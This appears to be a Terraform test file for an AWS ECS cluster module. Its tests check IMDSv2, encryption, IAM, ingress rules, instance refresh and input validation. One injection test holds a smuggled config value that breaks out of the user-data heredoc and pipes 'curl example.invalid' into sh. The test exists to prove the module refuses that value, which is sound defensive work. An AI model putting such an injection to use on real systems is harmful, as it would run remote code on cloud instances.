# Cluster, capacity provider, launch template and instance security, with the
# AWS API mocked.

mock_provider "aws" {
  # >>> infra/tests/mocks/aws.tfmock.hcl
  mock_data "aws_caller_identity" {
    defaults = { account_id = "123456789012" }
  }
  mock_data "aws_partition" {
    defaults = { partition = "aws" }
  }
  mock_resource "aws_iam_role" {
    defaults = { arn = "arn:aws:iam::123456789012:role/mock" }
  }
  # <<< infra/tests/mocks/aws.tfmock.hcl
  # What the mocked SSM parameter returns: a made-up AMI ID. The module itself
  # reads the ECS-optimized AMI from its public SSM parameter, never an ID.
  mock_data "aws_ssm_parameter" {
    defaults = { value = "ami-0123456789abcdef0", insecure_value = "ami-0123456789abcdef0" }
  }
  # The provider checks ARN and ID syntax even with mocked values.
  mock_resource "aws_iam_instance_profile" {
    defaults = { arn = "arn:aws:iam::123456789012:instance-profile/wpecs-test-instance-1" }
  }
  mock_resource "aws_autoscaling_group" {
    defaults = { arn = "arn:aws:autoscaling:eu-west-1:123456789012:autoScalingGroup:11111111-2222-3333-4444-555555555555:autoScalingGroupName/wpecs-test-1" }
  }
  mock_resource "aws_security_group" {
    defaults = { id = "sg-0aaaaaaaaaaaaaaaa" }
  }
  mock_resource "aws_launch_template" {
    defaults = { id = "lt-0123456789abcdef0", latest_version = 1 }
  }
  mock_data "aws_region" {
    defaults = { name = "eu-west-1" }
  }
  mock_resource "aws_kms_key" {
    defaults = { arn = "arn:aws:kms:eu-west-1:123456789012:key/11111111-2222-3333-4444-555555555555", key_id = "11111111-2222-3333-4444-555555555555" }
  }
  mock_resource "aws_cloudwatch_log_group" {
    defaults = { arn = "arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/wpecs-test/exec" }
  }
}

variables {
  name       = "wpecs-test"
  vpc_id     = "vpc-0123456789abcdef0"
  subnet_ids = ["subnet-0aaaaaaaaaaaaaaa1", "subnet-0aaaaaaaaaaaaaaa2", "subnet-0aaaaaaaaaaaaaaa3"]
}

run "defaults" {
  command = apply

  assert {
    condition     = one([for s in aws_ecs_cluster.this.setting : s.value if s.name == "containerInsights"]) == "enabled"
    error_message = "Container Insights must be enabled by default."
  }

  assert {
    condition     = aws_launch_template.this.metadata_options[0].http_tokens == "required" && aws_launch_template.this.metadata_options[0].http_endpoint == "enabled"
    error_message = "The launch template must require IMDSv2 tokens."
  }

  assert {
    condition     = aws_launch_template.this.metadata_options[0].http_put_response_hop_limit == 1
    error_message = "The IMDS hop limit must default to 1 so bridge-mode containers cannot reach instance credentials."
  }

  assert {
    condition     = aws_launch_template.this.key_name == null
    error_message = "The launch template must not name an SSH key pair."
  }

  assert {
    condition     = aws_launch_template.this.image_id == "ami-0123456789abcdef0" && data.aws_ssm_parameter.ami.name == "/aws/service/ecs/optimized-ami/amazon-linux-2023/recommended/image_id"
    error_message = "The AMI must come from the public ECS-optimized AL2023 SSM parameter."
  }

  assert {
    condition     = alltrue([for b in aws_launch_template.this.block_device_mappings : b.ebs[0].encrypted == "true" && b.ebs[0].volume_size == 30 && b.ebs[0].volume_type == "gp3"])
    error_message = "The root volume must be an encrypted 30 GiB gp3 volume by default."
  }

  assert {
    condition     = aws_launch_template.this.monitoring[0].enabled
    error_message = "Detailed monitoring must be on by default."
  }

  assert {
    condition     = base64decode(aws_launch_template.this.user_data) == <<-EOT
      #!/bin/bash
      # Join the ECS cluster: append to the agent's config, nothing else.
      set -euo pipefail
      cat >>/etc/ecs/ecs.config <<'ECSCONFIG'
      ECS_AWSVPC_BLOCK_IMDS=true
      ECS_CLUSTER=wpecs-test
      ECS_CONTAINER_STOP_TIMEOUT=40s
      ECS_ENABLE_CONTAINER_METADATA=true
      ECSCONFIG
    EOT
    error_message = "User data must only append the cluster name and agent settings to /etc/ecs/ecs.config; got:\n${base64decode(aws_launch_template.this.user_data)}"
  }

  assert {
    condition     = aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].managed_termination_protection == "ENABLED"
    error_message = "The capacity provider must have managed termination protection ENABLED."
  }

  assert {
    condition     = aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].managed_scaling[0].status == "ENABLED" && aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].managed_scaling[0].target_capacity == 100
    error_message = "The capacity provider must have managed scaling ENABLED with target capacity 100 by default."
  }

  assert {
    condition     = aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].auto_scaling_group_arn == aws_autoscaling_group.this.arn
    error_message = "The capacity provider must be backed by the module's Auto Scaling group."
  }

  assert {
    condition     = aws_autoscaling_group.this.protect_from_scale_in
    error_message = "The Auto Scaling group must protect instances from scale-in (needed by managed termination protection)."
  }

  assert {
    condition     = anytrue([for t in aws_autoscaling_group.this.tag : t.key == "AmazonECSManaged" && t.propagate_at_launch])
    error_message = "The Auto Scaling group must carry the AmazonECSManaged tag."
  }

  assert {
    condition     = jsonencode(aws_autoscaling_group.this.vpc_zone_identifier) == jsonencode(toset(var.subnet_ids)) && aws_autoscaling_group.this.min_size == 1 && aws_autoscaling_group.this.max_size == 4
    error_message = "The Auto Scaling group must span the given private subnets with min 1 / max 4 by default."
  }

  assert {
    condition     = aws_autoscaling_group.this.launch_template[0].id == aws_launch_template.this.id && length(aws_autoscaling_group.this.mixed_instances_policy) == 0
    error_message = "Without spot the group must launch from the launch template directly."
  }

  assert {
    condition     = aws_ecs_cluster_capacity_providers.this.capacity_providers == toset([aws_ecs_capacity_provider.this.name]) && one(aws_ecs_cluster_capacity_providers.this.default_capacity_provider_strategy).capacity_provider == aws_ecs_capacity_provider.this.name
    error_message = "The cluster must use the capacity provider, also as its default strategy."
  }

  assert {
    condition = toset(values(aws_iam_role_policy_attachment.instance)[*].policy_arn) == toset([
      "arn:aws:iam::aws:policy/service-role/AmazonEC2ContainerServiceforEC2Role",
      "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore",
    ])
    error_message = "The instance role must have exactly the ECS-for-EC2 and SSM managed-instance policies."
  }

  assert {
    condition     = jsondecode(aws_iam_role.instance.assume_role_policy).Statement[0].Principal.Service == "ec2.amazonaws.com"
    error_message = "Only EC2 may assume the instance role."
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.dynamic_ports) == 0
    error_message = "With no source security groups the instances must accept no inbound traffic at all."
  }

  assert {
    condition     = output.cluster_name == "wpecs-test" && output.capacity_provider_name == aws_ecs_capacity_provider.this.name && output.instance_security_group_id == aws_security_group.instances.id && output.asg_name == aws_autoscaling_group.this.name && output.instance_role_arn == aws_iam_role.instance.arn
    error_message = "Outputs must expose the cluster, capacity provider, security group, group and role."
  }
}

run "ingress_only_from_given_groups_on_dynamic_ports" {
  command = apply

  variables {
    ingress_source_security_group_ids = ["sg-0bbbbbbbbbbbbbbbb", "sg-0cccccccccccccccc"]
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.dynamic_ports) == 2
    error_message = "Each source security group must get one ingress rule."
  }

  assert {
    condition = alltrue([for r in aws_vpc_security_group_ingress_rule.dynamic_ports :
      r.ip_protocol == "tcp" && r.from_port == 32768 && r.to_port == 65535 && r.cidr_ipv4 == null && r.cidr_ipv6 == null && r.security_group_id == aws_security_group.instances.id
    ])
    error_message = "Ingress must be TCP on the dynamic port range from security groups only, never from CIDRs."
  }

  assert {
    condition     = toset(aws_vpc_security_group_ingress_rule.dynamic_ports[*].referenced_security_group_id) == toset(["sg-0bbbbbbbbbbbbbbbb", "sg-0cccccccccccccccc"])
    error_message = "Ingress must reference exactly the given source security groups."
  }

  assert {
    condition     = !anytrue([for r in aws_vpc_security_group_ingress_rule.dynamic_ports : r.from_port <= 22 && r.to_port >= 22])
    error_message = "No rule may open port 22."
  }
}

run "spot_capacity" {
  command = apply

  variables {
    spot = { enabled = true, instance_types = ["t3.medium", "t3a.medium", "m6i.large"], on_demand_base_capacity = 1 }
  }

  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "\nECS_ENABLE_SPOT_INSTANCE_DRAINING=true\n")
    error_message = "With spot the agent must drain tasks on an interruption notice."
  }

  assert {
    condition     = length(aws_autoscaling_group.this.launch_template) == 0 && length(aws_autoscaling_group.this.mixed_instances_policy) == 1
    error_message = "With spot the group must use a mixed instances policy instead of a plain launch template."
  }

  assert {
    condition     = aws_autoscaling_group.this.mixed_instances_policy[0].instances_distribution[0].on_demand_base_capacity == 1 && length(aws_autoscaling_group.this.mixed_instances_policy[0].launch_template[0].override) == 3
    error_message = "The mixed instances policy must carry the on-demand base and one override per instance type."
  }
}

run "settings_are_passed_through" {
  command = apply

  variables {
    container_insights              = "enhanced"
    target_capacity                 = 80
    metadata_hop_limit              = 2
    detailed_monitoring             = false
    container_stop_timeout_seconds  = 60
    root_volume                     = { size_gib = 50 }
    ecs_config                      = { ECS_ENABLE_TASK_IAM_ROLE = "true", ECS_IMAGE_PULL_BEHAVIOR = "prefer-cached" }
    architecture                    = "arm64"
    instance_type                   = "m7g.large"
    ami_ssm_parameter_name          = "/aws/service/ecs/optimized-ami/amazon-linux-2023/arm64/recommended/image_id"
    additional_instance_policy_arns = ["arn:aws:iam::aws:policy/CloudWatchAgentServerPolicy"]
    desired_capacity                = 2
    tags                            = { Env = "test" }
  }

  assert {
    condition     = one(aws_ecs_cluster.this.setting).value == "enhanced" && aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].managed_scaling[0].target_capacity == 80
    error_message = "container_insights and target_capacity must reach the cluster and capacity provider."
  }

  assert {
    condition     = aws_launch_template.this.metadata_options[0].http_put_response_hop_limit == 2 && aws_launch_template.this.metadata_options[0].http_tokens == "required" && !aws_launch_template.this.monitoring[0].enabled
    error_message = "metadata_hop_limit and detailed_monitoring must reach the launch template, IMDSv2 still required."
  }

  assert {
    condition = alltrue([for line in ["ECS_CONTAINER_STOP_TIMEOUT=60s", "ECS_ENABLE_TASK_IAM_ROLE=true", "ECS_IMAGE_PULL_BEHAVIOR=prefer-cached"] :
    strcontains(base64decode(aws_launch_template.this.user_data), "\n${line}\n")])
    error_message = "Extra agent settings must be appended to ecs.config."
  }

  assert {
    condition     = aws_launch_template.this.block_device_mappings[0].ebs[0].volume_size == 50 && data.aws_ssm_parameter.ami.name == var.ami_ssm_parameter_name
    error_message = "root_volume and ami_ssm_parameter_name must be used."
  }

  assert {
    condition     = length(aws_iam_role_policy_attachment.instance) == 3 && aws_iam_role_policy_attachment.instance["extra-0"].policy_arn == "arn:aws:iam::aws:policy/CloudWatchAgentServerPolicy"
    error_message = "Additional instance policies must be attached besides the two defaults."
  }

  assert {
    condition     = anytrue([for t in aws_autoscaling_group.this.tag : t.key == "Env" && t.value == "test" && t.propagate_at_launch])
    error_message = "Tags must reach the Auto Scaling group and propagate to instances."
  }

  assert {
    condition     = aws_ecs_cluster.this.tags["Env"] == "test" && aws_launch_template.this.tags["Name"] == "wpecs-test"
    error_message = "Tags must be merged with Name on every resource."
  }

  assert {
    condition = alltrue([for t in ["instance", "volume"] :
      one([for ts in aws_launch_template.this.tag_specifications : ts.tags if ts.resource_type == t]) == tomap({ Name = "wpecs-test", Env = "test" })
    ])
    error_message = "Instances and their volumes must be launched with the tags (cost and ownership)."
  }

  assert {
    condition     = output.instance_tags == tomap({ instance = tomap({ Name = "wpecs-test", Env = "test" }), volume = tomap({ Name = "wpecs-test", Env = "test" }) })
    error_message = "instance_tags must say what the instances and volumes are tagged with."
  }
}

run "desired_capacity_is_the_initial_size" {
  command = plan

  variables {
    desired_capacity = 2
  }

  assert {
    condition     = aws_autoscaling_group.this.desired_capacity == 2
    error_message = "desired_capacity must set the group's initial size."
  }
}

run "arm64_uses_graviton_and_the_arm64_ami" {
  command = plan

  variables {
    architecture  = "arm64"
    instance_type = "t4g.small"
    spot          = { enabled = true, instance_types = ["t4g.small", "m7g.medium", "c7gn.large"] }
  }

  assert {
    condition     = data.aws_ssm_parameter.ami.name == "/aws/service/ecs/optimized-ami/amazon-linux-2023/arm64/recommended/image_id"
    error_message = "architecture arm64 must read the arm64 ECS-optimized AMI's parameter."
  }

  assert {
    condition     = aws_launch_template.this.instance_type == "t4g.small" && output.architecture == "arm64"
    error_message = "The Graviton type must reach the launch template and the architecture the output."
  }
}

run "x86_64_is_the_default" {
  command = plan

  assert {
    condition     = output.architecture == "x86_64" && data.aws_ssm_parameter.ami.name == "/aws/service/ecs/optimized-ami/amazon-linux-2023/recommended/image_id"
    error_message = "By default the instances are x86_64 with the x86_64 AMI."
  }
}

# ECS Exec (exec_enabled): sessions encrypted with the cluster's own KMS key
# and logged to a log group encrypted with it. AWS mocked.

run "exec_sessions_are_encrypted_and_logged" {
  command = apply

  variables {
    exec_enabled = true
  }

  assert {
    condition     = one(one(aws_ecs_cluster.this.configuration).execute_command_configuration).kms_key_id == module.exec_key[0].arn && one(one(aws_ecs_cluster.this.configuration).execute_command_configuration).logging == "OVERRIDE"
    error_message = "ECS Exec sessions must be encrypted with the cluster's key and logged to the cluster's own log group (logging OVERRIDE)."
  }

  assert {
    condition     = one(one(one(aws_ecs_cluster.this.configuration).execute_command_configuration).log_configuration).cloud_watch_encryption_enabled && one(one(one(aws_ecs_cluster.this.configuration).execute_command_configuration).log_configuration).cloud_watch_log_group_name == "/ecs/wpecs-test/exec"
    error_message = "The session log must go to /ecs/<name>/exec with encryption enforced."
  }

  assert {
    condition     = aws_cloudwatch_log_group.exec[0].kms_key_id == module.exec_key[0].arn && aws_cloudwatch_log_group.exec[0].retention_in_days == 365
    error_message = "The session log group must be encrypted with the exec key and kept a year by default."
  }

  assert {
    condition     = module.exec_key[0].alias_name == "alias/wpecs-test-ecs-exec" && strcontains(module.exec_key[0].policy, "logs.eu-west-1.amazonaws.com") && strcontains(module.exec_key[0].policy, "log-group:/ecs/wpecs-test/exec")
    error_message = "The exec key must rotate and let CloudWatch Logs use it for this log group only."
  }

  assert {
    condition     = output.exec_kms_key_arn == module.exec_key[0].arn && output.exec_log_group_arn == aws_cloudwatch_log_group.exec[0].arn
    error_message = "The key and the log group must be outputs (the task role needs both)."
  }
}

run "exec_off_by_default" {
  command = plan

  assert {
    condition     = length(aws_ecs_cluster.this.configuration) == 0 && length(module.exec_key) == 0 && length(aws_cloudwatch_log_group.exec) == 0 && output.exec_kms_key_arn == null
    error_message = "Without exec_enabled there is no exec configuration, key or log group."
  }
}

run "exec_log_retention_must_be_a_cloudwatch_value" {
  command = plan

  variables {
    exec_enabled            = true
    exec_log_retention_days = 10
  }

  expect_failures = [var.exec_log_retention_days]
}

# A new ECS-optimized AMI (AWS changes the public SSM parameter's value) must
# roll the instances: a new launch template version and an instance refresh
# of the Auto Scaling group, and nothing else. The two runs share one state:
# the first applies with AMI A, the second plans with AMI B.

run "today_ami" {
  command = apply

  override_data {
    target = data.aws_ssm_parameter.ami
    values = { value = "ami-0aaaaaaaaaaaaaaaa", insecure_value = "ami-0aaaaaaaaaaaaaaaa" }
  }

  assert {
    condition     = aws_launch_template.this.image_id == "ami-0aaaaaaaaaaaaaaaa"
    error_message = "The launch template must use the AMI the SSM parameter names."
  }
}

run "new_ami_rolls_the_instances" {
  command = plan

  # What the first run created, to compare with (asserts cannot read run.*).
  variables {
    before = {
      launch_template_id         = run.today_ami.launch_template_id
      asg_arn                    = run.today_ami.asg_arn
      cluster_arn                = run.today_ami.cluster_arn
      capacity_provider_name     = run.today_ami.capacity_provider_name
      instance_security_group_id = run.today_ami.instance_security_group_id
      instance_role_arn          = run.today_ami.instance_role_arn
    }
  }

  override_data {
    target = data.aws_ssm_parameter.ami
    values = { value = "ami-0bbbbbbbbbbbbbbbb", insecure_value = "ami-0bbbbbbbbbbbbbbbb" }
  }

  # The launch template is updated in place (a new version, same ID) with the
  # new image, and the group launches its latest version.
  assert {
    condition     = aws_launch_template.this.image_id == "ami-0bbbbbbbbbbbbbbbb" && aws_launch_template.this.id == var.before.launch_template_id && aws_launch_template.this.update_default_version
    error_message = "A new AMI must become a new version of the same launch template (and its default version)."
  }

  assert {
    condition     = aws_autoscaling_group.this.launch_template[0].id == aws_launch_template.this.id && aws_autoscaling_group.this.launch_template[0].version == tostring(aws_launch_template.this.latest_version)
    error_message = "The group must launch the launch template's latest version, so a new version changes the group and starts a refresh."
  }

  # The refresh: rolling, never below the running capacity (new instances
  # first, up to twice the size), instances already on the new template kept,
  # and the instances ECS protects (managed termination protection) replaced
  # too, after ECS managed draining moved their tasks.
  assert {
    condition     = length(aws_autoscaling_group.this.instance_refresh) == 1 && aws_autoscaling_group.this.instance_refresh[0].strategy == "Rolling"
    error_message = "The Auto Scaling group must have a rolling instance refresh."
  }

  assert {
    condition = (
      aws_autoscaling_group.this.instance_refresh[0].preferences[0].min_healthy_percentage == 100 &&
      aws_autoscaling_group.this.instance_refresh[0].preferences[0].max_healthy_percentage == 200
    )
    error_message = "The refresh must keep 100 % of the instances healthy (launch before terminate, up to 200 %), so task capacity never drops below the service's minimum."
  }

  assert {
    condition     = aws_autoscaling_group.this.instance_refresh[0].preferences[0].skip_matching && tonumber(aws_autoscaling_group.this.instance_refresh[0].preferences[0].instance_warmup) == 300
    error_message = "The refresh must skip instances already on the new template and wait 300 s of warm-up per new instance."
  }

  assert {
    condition     = aws_autoscaling_group.this.instance_refresh[0].preferences[0].scale_in_protected_instances == "Refresh"
    error_message = "Instances protected from scale-in (ECS managed termination protection protects every instance with tasks) must be refreshed, not skipped: the default \"Ignore\" would leave them on the old AMI forever."
  }

  assert {
    condition     = aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].managed_draining == "ENABLED" && aws_ecs_capacity_provider.this.auto_scaling_group_provider[0].managed_termination_protection == "ENABLED" && aws_autoscaling_group.this.protect_from_scale_in
    error_message = "ECS must drain the tasks of an instance before the refresh terminates it (managed draining), and protect instances with tasks."
  }

  # Nothing else: every other resource keeps its identity and settings. A
  # replacement would leave these IDs unknown in the plan (and fail here).
  assert {
    condition = (
      aws_autoscaling_group.this.arn == var.before.asg_arn &&
      aws_ecs_cluster.this.arn == var.before.cluster_arn &&
      aws_ecs_capacity_provider.this.name == var.before.capacity_provider_name &&
      aws_security_group.instances.id == var.before.instance_security_group_id &&
      aws_iam_role.instance.arn == var.before.instance_role_arn
    )
    error_message = "Only the launch template may change with the AMI: the group, cluster, capacity provider, security group and role stay."
  }

  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "\nECS_CLUSTER=wpecs-test\n") && aws_launch_template.this.instance_type == "t3.medium" && aws_autoscaling_group.this.min_size == 1 && aws_autoscaling_group.this.max_size == 4
    error_message = "A new AMI must not change the instances' user data, type or the group's size."
  }
}

# Bad inputs are refused at plan time with a message naming the problem.

run "min_greater_than_max_is_refused" {
  command = plan
  variables {
    min_size = 5
    max_size = 2
  }
  expect_failures = [var.max_size]
}

run "desired_above_max_is_refused" {
  command = plan
  variables {
    desired_capacity = 9
  }
  expect_failures = [var.desired_capacity]
}

run "desired_below_min_is_refused" {
  command = plan
  variables {
    min_size         = 2
    desired_capacity = 1
  }
  expect_failures = [var.desired_capacity]
}

run "negative_min_is_refused" {
  command = plan
  variables {
    min_size = -1
  }
  expect_failures = [var.min_size]
}

run "target_capacity_zero_is_refused" {
  command = plan
  variables {
    target_capacity = 0
  }
  expect_failures = [var.target_capacity]
}

run "target_capacity_over_100_is_refused" {
  command = plan
  variables {
    target_capacity = 101
  }
  expect_failures = [var.target_capacity]
}

run "hop_limit_zero_is_refused" {
  command = plan
  variables {
    metadata_hop_limit = 0
  }
  expect_failures = [var.metadata_hop_limit]
}

run "name_with_reserved_prefix_is_refused" {
  command = plan
  variables {
    name = "ecs-prod"
  }
  expect_failures = [var.name]
}

run "overriding_ecs_cluster_is_refused" {
  command = plan
  variables {
    ecs_config = { ECS_CLUSTER = "someone-else" }
  }
  expect_failures = [var.ecs_config]
}

run "ecs_config_injection_is_refused" {
  command = plan
  variables {
    ecs_config = { ECS_LOGLEVEL = "info\nECSCONFIG\ncurl example.invalid | sh" }
  }
  expect_failures = [var.ecs_config]
}

run "ecs_config_bad_key_is_refused" {
  command = plan
  variables {
    ecs_config = { "loglevel" = "debug" }
  }
  expect_failures = [var.ecs_config]
}

run "reversed_port_range_is_refused" {
  command = plan
  variables {
    dynamic_port_range = { from_port = 60000, to_port = 32768 }
  }
  expect_failures = [var.dynamic_port_range]
}

run "privileged_port_range_is_refused" {
  command = plan
  variables {
    dynamic_port_range = { from_port = 22, to_port = 65535 }
  }
  expect_failures = [var.dynamic_port_range]
}

run "small_root_volume_is_refused" {
  command = plan
  variables {
    root_volume = { size_gib = 8 }
  }
  expect_failures = [var.root_volume]
}

run "unknown_container_insights_is_refused" {
  command = plan
  variables {
    container_insights = "on"
  }
  expect_failures = [var.container_insights]
}

run "bad_source_security_group_is_refused" {
  command = plan
  variables {
    ingress_source_security_group_ids = ["0.0.0.0/0"]
  }
  expect_failures = [var.ingress_source_security_group_ids]
}

run "no_subnets_is_refused" {
  command = plan
  variables {
    subnet_ids = []
  }
  expect_failures = [var.subnet_ids]
}

run "bad_vpc_id_is_refused" {
  command = plan
  variables {
    vpc_id = "my-vpc"
  }
  expect_failures = [var.vpc_id]
}

run "refresh_without_room_above_100_is_refused" {
  command = plan
  variables {
    instance_refresh = { max_healthy_percentage = 100 }
  }
  expect_failures = [var.instance_refresh]
}

run "refresh_without_warmup_is_refused" {
  command = plan
  variables {
    instance_refresh = { instance_warmup = 0 }
  }
  expect_failures = [var.instance_refresh]
}

run "unknown_architecture_is_refused" {
  command = plan
  variables {
    architecture = "aarch64"
  }
  expect_failures = [var.architecture]
}

run "arm64_with_an_x86_instance_type_is_refused" {
  command = plan
  variables {
    architecture  = "arm64"
    instance_type = "t3.medium"
  }
  expect_failures = [var.instance_type]
}

run "x86_64_with_a_graviton_instance_type_is_refused" {
  command = plan
  variables {
    instance_type = "m7g.large"
  }
  expect_failures = [var.instance_type]
}

run "arm64_with_an_x86_spot_type_is_refused" {
  command = plan
  variables {
    architecture  = "arm64"
    instance_type = "t4g.medium"
    spot          = { enabled = true, instance_types = ["t4g.medium", "m7i.large"] }
  }
  expect_failures = [var.spot]
}

run "an_ecs_ami_of_the_other_architecture_is_refused" {
  command = plan
  variables {
    ami_ssm_parameter_name = "/aws/service/ecs/optimized-ami/amazon-linux-2023/arm64/recommended/image_id"
  }
  expect_failures = [var.ami_ssm_parameter_name]
}
